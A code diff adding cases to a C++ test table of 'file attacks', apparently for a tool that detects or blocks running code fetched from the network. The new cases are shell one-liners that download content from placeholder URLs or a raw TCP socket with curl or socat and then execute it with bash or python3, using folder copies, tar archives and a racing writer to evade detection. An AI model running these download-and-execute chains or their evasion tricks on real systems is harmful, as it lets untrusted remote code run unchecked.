@@ -61,6 +61,14 @@ const Attack kFileAttacks[] = {
                                   "cp @D/e @D/local.sh @D/f @D/d; bash @D/d/f"),
     FILE_CASE("cp of a folder", "mkdir @D/d; cp @D/local.sh @D/d; curl -s -o @D/d/f @URL; "
                                 "cp -r @D/d @D/c; bash @D/c/f"),
+    FILE_CASE("python of a folder", "mkdir @D/d; curl -s -o @D/d/__main__.py @PYTHON_URL; "
+                                    "/usr/bin/python3 @D/d"),
+    FILE_CASE("opened to write by another meanwhile",
+              "at=@TCP; at=${at#/dev/tcp/}; { sleep 0.4; @GET; sleep 0.2; } | "
+              "socat - TCP:${at/\\//:} > @D/f & sleep 0.2; : >> @D/f; wait; bash @D/f"),
+    FILE_CASE("tar and a program of its",
+              "cd @D; curl -s -o f.tar @SCRIPT_TAR_URL; gzip f.tar; tar -I gzip -xf f.tar.gz; "
+              "bash packed.sh"),
     FILE_CASE("what another left",
               "curl -s @URL | { dd count=0 status=none; cat > @D/f; }; bash @D/f"),
     FILE_CASE("a loop over a file",
